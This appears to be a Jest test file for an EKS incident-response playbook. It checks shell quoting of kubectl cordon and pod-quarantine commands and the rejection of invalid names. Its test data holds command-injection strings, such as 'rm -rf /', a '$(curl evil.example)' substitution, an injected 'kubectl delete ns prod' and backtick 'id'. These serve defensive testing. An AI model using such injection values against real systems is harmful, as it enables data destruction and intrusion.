import { cordonNode, isolatePod, shellQuote } from '../../../../lambda/playbooks/contain-eks/kubectl';

describe('the kubectl commands of an EKS response', () => {
  it('quote every name for a POSIX shell', () => {
    expect(shellQuote("a'b")).toBe(`'a'\\''b'`);
    expect(cordonNode('ip-10-0-3-7.ec2.internal')).toEqual({ commands: ["kubectl cordon 'ip-10-0-3-7.ec2.internal'"], refused: [] });
  });

  it('label the pod and apply a deny-all NetworkPolicy selecting that label, in its namespace', () => {
    const plan = isolatePod({ namespace: 'shop', pod: 'web-7d9f8c6b5-x2kqp' }, 'ir-0123456789abcdef');
    expect(plan.commands[0]).toBe("kubectl label pod --namespace 'shop' 'web-7d9f8c6b5-x2kqp' 'ir-quarantine=ir-0123456789abcdef' --overwrite");
    const policyJson = /^printf '%s' '(.*)' \| kubectl apply --namespace 'shop' -f -$/.exec(plan.commands[1]!)?.[1];
    expect(JSON.parse(policyJson!)).toEqual({
      apiVersion: 'networking.k8s.io/v1',
      kind: 'NetworkPolicy',
      metadata: { name: 'ir-quarantine-ir-0123456789abcdef', namespace: 'shop' },
      // No ingress or egress rule with both policy types: all traffic of the selected pods is denied.
      spec: { podSelector: { matchLabels: { 'ir-quarantine': 'ir-0123456789abcdef' } }, policyTypes: ['Ingress', 'Egress'] },
    });
  });

  it.each([
    ["a quote", "web'; rm -rf / #"],
    ['a command substitution', 'web$(curl evil.example)'],
    ['a newline', 'web\nkubectl delete ns prod'],
    ['upper case', 'Web'],
    ['a space', 'web pod'],
    ['backticks', 'web`id`'],
  ])('never put an attacker’s name with %s in a command: the step is left to a person', (_, name) => {
    expect(isolatePod({ namespace: 'shop', pod: name }, 'ir-0123456789abcdef')).toEqual({ commands: [], refused: [expect.stringContaining('not a valid Kubernetes name')] });
    expect(isolatePod({ namespace: name, pod: 'web' }, 'ir-0123456789abcdef').commands).toEqual([]);
    expect(cordonNode(name).commands).toEqual([]);
  });

  it('refuse a namespace longer than a DNS label', () => {
    expect(isolatePod({ namespace: 'a'.repeat(64), pod: 'web' }, 'ir-0123456789abcdef').commands).toEqual([]);
  });
});
